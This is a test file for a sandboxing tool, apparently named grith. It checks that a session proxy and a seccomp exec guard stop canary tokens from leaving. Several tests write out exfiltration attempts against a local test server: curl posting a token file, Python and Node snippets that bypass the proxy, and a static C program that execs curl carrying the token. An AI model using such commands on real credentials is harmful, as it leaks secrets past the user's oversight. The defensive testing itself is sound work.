// The session's other guards: the proxy it starts (variables, CA files, blocking what argv checks cannot see —
// a body read from a file, a static binary's exec) and the workspace mount (--mount SRC:DST).
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EventLog } from '../../../src/events/event-log.js';
import { addCanary, buildExecGuard, grithRun } from '../../support/shell-run.js';

let root: string;
let home: string;
let token: { id: string; value: string };
let server: Server;
let port: number;
const received: string[] = [];

beforeAll(async () => {
  buildExecGuard();
  root = mkdtempSync(join(tmpdir(), 'grith-shg-'));
  home = join(root, 'home');
  token = await addCanary(home, ['--format', 'github-pat', '--label', 'net-token', '--env', 'GITHUB_TOKEN']);
  writeFileSync(join(root, 'token.txt'), token.value);
  server = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
      res.end('upstream-ok\n');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  port = (server.address() as { port: number }).port;
}, 60_000);

afterAll(async () => {
  await new Promise((r) => server?.close(r));
  rmSync(root, { recursive: true, force: true });
});

describe('grith shell: the session proxy', () => {
  it('routes the session through grith proxy with grith CA files', async () => {
    const r = await grithRun(
      [
        'shell',
        '-c',
        'for v in HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY NODE_USE_ENV_PROXY NODE_EXTRA_CA_CERTS SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO PIP_CERT AWS_CA_BUNDLE DENO_CERT NO_PROXY GRITH_HOME; do echo "$v=${!v}"; done; ' +
          'echo "CA_PEMS=$(grep -c "BEGIN CERTIFICATE" "$NODE_EXTRA_CA_CERTS")"; echo "CA_SAME=$(cmp -s "$NODE_EXTRA_CA_CERTS" <(tail -n "$(wc -l < "$NODE_EXTRA_CA_CERTS")" "$SSL_CERT_FILE") && echo yes)"',
      ],
      { home, cwd: root, env: { NO_PROXY: 'localhost,127.0.0.1' } },
    );
    expect(r.code).toBe(0);
    const env = Object.fromEntries(r.stdout.trim().split('\n').map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
    for (const k of ['HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY']) {
      expect(env[k]).toMatch(/^http:\/\/grith:[\w-]+@127\.0\.0\.1:\d+$/);
    }
    expect(env.NODE_USE_ENV_PROXY).toBe('1');
    expect(env.NO_PROXY).toBe('');
    // In the sandbox grith's home is gone: its CA certificate and the joined bundle are bound in read-only.
    expect(env.GRITH_HOME).toBe('');
    expect(env.NODE_EXTRA_CA_CERTS).toBe('/tmp/grith/ca.crt');
    expect(env.CA_PEMS).toBe('1');
    expect(env.CA_SAME).toBe('yes'); // the bundle ends with grith's CA
    expect(readFileSync(join(home, 'ca', 'grith-ca.crt'), 'utf8').match(/BEGIN CERTIFICATE/g)).toHaveLength(1);
    for (const k of ['SSL_CERT_FILE', 'REQUESTS_CA_BUNDLE', 'CURL_CA_BUNDLE', 'GIT_SSL_CAINFO', 'PIP_CERT', 'AWS_CA_BUNDLE', 'DENO_CERT']) {
      expect(env[k]).toBe('/tmp/grith/ca-bundle.pem');
    }
  });

  it('lets a clean request through and blocks a body read from a file (no token in any argv)', async () => {
    received.length = 0;
    const url = `http://127.0.0.1:${port}`;
    const r = await grithRun(
      ['shell', '-c', `curl -s ${url}/clean; curl -s -o /dev/null -w '%{http_code}\\n' -d @token.txt ${url}/exfil`],
      { home, cwd: root },
    );
    expect(r.stdout).toBe('upstream-ok\n403\n');
    expect(r.stderr).toContain('CANARY FIRED [proxy]');
    expect(received.join('\n')).not.toContain(token.value.slice(4));
    expect(received.some((l) => l.startsWith('GET /clean'))).toBe(true);
    const fired = (await new EventLog(home).readAll()).filter((e) => e.kind === 'canary.fired' && e.guard === 'proxy');
    expect(fired.at(-1)).toMatchObject({ canaryId: token.id, action: 'deny' });
  });

  it('a child cannot leave the proxy: env -i, emptied proxy variables and NO_PROXY=* are all overridden', async () => {
    received.length = 0;
    const url = `http://127.0.0.1:${port}`;
    const py = `import urllib.request as u
try:
    u.urlopen(u.Request("${url}/py", data=open("token.txt","rb").read(), method="POST"), timeout=10); print("sent")
except Exception as e: print("refused", getattr(e, "code", e))`;
    const node = `fetch("${url}/node", { method: "POST", body: require("fs").readFileSync("token.txt") }).then((r) => console.log("status", r.status), (e) => console.log("refused"))`;
    const script = [
      `env -i /usr/bin/python3 -c '${py}'`,
      `env -i "$(command -v node)" -e '${node}'`,
      `NO_PROXY='*' no_proxy='*' HTTP_PROXY= http_proxy= curl -s -o /dev/null -w 'curl %{http_code}\n' --data-binary @token.txt ${url}/curl`,
    ].join('; ');
    const r = await grithRun(['shell', '-c', script], { home, cwd: root, timeoutMs: 60_000 });
    expect(r.stdout).toMatch(/refused 403/);
    expect(r.stdout).toMatch(/status 403/);
    expect(r.stdout).toMatch(/curl 403/);
    expect(r.stdout).not.toMatch(/sent/);
    expect(received.join('\n')).not.toContain(token.value.slice(4));
  }, 90_000);

  it('a static binary exec carrying a token is refused in the sandbox (grith-launch sees the raw execve)', async () => {
    const bin = staticExec();
    received.length = 0;
    const before = (await new EventLog(home).readAll()).length;
    const r = await grithRun(['shell', '-c', `${bin} http://127.0.0.1:${port}/static`], { home, cwd: root });
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/grith: blocked exec of curl: argument carries credential canary "net-token"/);
    expect(received).toEqual([]);
    const after = (await new EventLog(home).readAll()).slice(before).filter((e) => e.kind === 'canary.fired');
    expect(after.map((e) => [e.guard, e.detail?.exec])).toEqual([['shell', 'seccomp-execve']]);
  });

  it('without the sandbox a static binary execs unchecked (known gap), and the proxy still stops what it sends', async () => {
    const bin = staticExec();
    received.length = 0;
    const before = (await new EventLog(home).readAll()).length;
    const r = await grithRun(['shell', '--no-sandbox', '-c', `${bin} http://127.0.0.1:${port}/static`], { home, cwd: root });
    expect(r.stdout).toBe('403\n');
    expect(received.join('\n')).not.toContain(token.value.slice(4));
    const after = (await new EventLog(home).readAll()).slice(before).filter((e) => e.kind === 'canary.fired');
    expect(after.map((e) => e.guard)).toEqual(['proxy']);
  });
});

/** A statically linked program that execs curl with the token (read from token.txt) in its argv. */
function staticExec(): string {
  const bin = join(root, 'static-exec');
  if (existsSync(bin)) return bin;
  const src = join(root, 'static-exec.c');
  writeFileSync(
    src,
    `#include <unistd.h>
#include <stdio.h>
int main(int c, char **v) { char t[256] = {0}; FILE *f = fopen("token.txt", "r"); if (!f || !fgets(t, sizeof t, f)) return 2;
  char *args[] = {"curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\\n", "-d", t, v[1], 0};
  execv("/usr/bin/curl", args); perror("execv"); return 1; }`,
  );
  execFileSync('cc', ['-static', '-O1', '-o', bin, src]);
  return bin;
}

describe('grith shell --mount', () => {
  it('mounts the workspace, starts in it, serves decoys, and unmounts at the end', async () => {
    const mh = join(root, 'mounthome');
    const decoy = await addCanary(mh, ['--format', 'aws', '--label', 'aws-decoy', '--decoy', '.aws/credentials']);
    const src = join(root, 'ws-src');
    const dst = join(root, 'ws-dst');
    mkdirSync(src);
    writeFileSync(join(src, 'README'), 'hello\n');
    const r = await grithRun(['shell', '--no-proxy', '--mount', `${src}:${dst}`, '-c', 'pwd; cat README; grep -c aws_access_key_id .aws/credentials'], {
      home: mh,
      timeoutMs: 60_000,
    });
    expect(r.stderr).toContain('CANARY TOUCHED [fs] decoy read: canary "aws-decoy"');
    expect(r.stdout).toBe(`${dst}\nhello\n1\n`);
    expect(r.code).toBe(0);
    expect(existsSync(join(src, '.aws'))).toBe(false);
    expect(readFileSync('/proc/self/mounts', 'utf8')).not.toContain(dst);
    const reads = (await new EventLog(mh).readAll()).filter((e) => e.kind === 'canary.read');
    expect(reads.at(-1)).toMatchObject({ canaryId: decoy.id, guard: 'fs' });
  }, 90_000);

  it('--zone and --zone-policy reach the mount: a canary copied out of the zone is refused, inside it is staged', async () => {
    const zh = join(root, 'zonehome');
    const decoy = await addCanary(zh, ['--format', 'aws', '--label', 'zone-decoy', '--decoy', 'work/.aws/credentials']);
    const src = join(root, 'zone-src');
    const dst = join(root, 'zone-dst');
    mkdirSync(join(src, 'work'), { recursive: true });
    mkdirSync(join(src, 'outside'));
    const script = 'cp work/.aws/credentials outside/creds 2>/dev/null; echo out=$?; cp work/.aws/credentials work/creds; echo in=$?';
    const r = await grithRun(['shell', '--no-proxy', '--mount', `${src}:${dst}`, '--zone', 'work', '-c', script], {
      home: zh,
      timeoutMs: 60_000,
    });
    expect(r.stdout).toBe('out=1\nin=0\n');
    const outside = join(src, 'outside', 'creds');
    if (existsSync(outside)) expect(readFileSync(outside, 'utf8')).not.toContain(decoy.value);
    expect(readFileSync(join(src, 'work', 'creds'), 'utf8')).toContain(decoy.value);
    const fired = (await new EventLog(zh).readAll()).filter((e) => e.kind === 'canary.fired' && e.guard === 'fs');
    expect(fired.find((e) => e.action === 'deny')?.where).toBe(join(dst, 'outside', 'creds'));
    expect(fired.find((e) => e.action === 'alert')?.where).toBe(join(dst, 'work', 'creds'));
    expect(readFileSync('/proc/self/mounts', 'utf8')).not.toContain(dst);
  }, 90_000);
});
